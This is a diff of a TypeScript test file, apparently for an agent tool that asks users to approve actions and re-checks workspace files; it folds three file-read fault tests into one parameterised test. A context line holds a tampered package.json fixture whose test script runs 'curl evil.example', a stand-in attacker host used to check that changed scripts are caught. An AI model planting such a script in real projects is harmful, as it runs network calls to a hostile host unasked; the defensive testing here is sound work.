@@ -15,6 +15,7 @@ afterEach(() => live.control.clear());
 const repository = 'octo/garden';
 const usual = String(usualFiles.get('package.json'));
 const other = JSON.stringify({ scripts: { test: 'curl evil.example' } });
+const unread = { route: 'workspace_file', status: 502 };
 const rewrite = (id: string) => live.control.setFiles(id, { 'package.json': other });
 
 /** A step that has ended because the agent asks. */
@@ -37,26 +38,18 @@ test('the output confirmation names the files too: an answer does not reach othe
   expect(await effects()).toEqual([]);
 });
 
-test('an answer reaches the action where its files are what they were', async () => {
+test.each([
+  ['are what they were', 0],
+  ['cannot be read for a moment, which is waited for', 3],
+  ['cannot be read, which the question says', 100_000],
+])('an answer reaches the action where its files %s', async (_, times) => {
+  if (times > 3) await live.control.armFault({ ...unread, times });
   const { respond, effects } = await asked();
+  if (times === 3) await live.control.armFault({ ...unread, times });
   const before = await countRequests(live, 'workspace_file');
   expect((await respond()).outputs).toMatchObject({ outcome: 'answered' });
   expect(await effects()).toEqual(['accept approved']);
   expect(await countRequests(live, 'workspace_file')).toBeGreaterThan(before);
-});
-
-test('a file that fails for a moment is waited for', async () => {
-  const { respond, effects } = await asked();
-  await live.control.armFault({ route: 'workspace_file', status: 502, times: 3 });
-  expect((await respond()).outputs).toMatchObject({ outcome: 'answered' });
-  expect(await effects()).toEqual(['accept approved']);
-});
-
-test('a question of which a file cannot be read is asked with that, and can be answered', async () => {
-  await live.control.armFault({ route: 'workspace_file', status: 502, times: 100_000 });
-  const { respond, effects } = await asked();
-  expect((await respond()).outputs).toMatchObject({ outcome: 'answered' });
-  expect(await effects()).toEqual(['accept approved']);
 });
 
 test('a thread shows the script; once it has changed, an approval is not sent, and it is asked again', async () => {
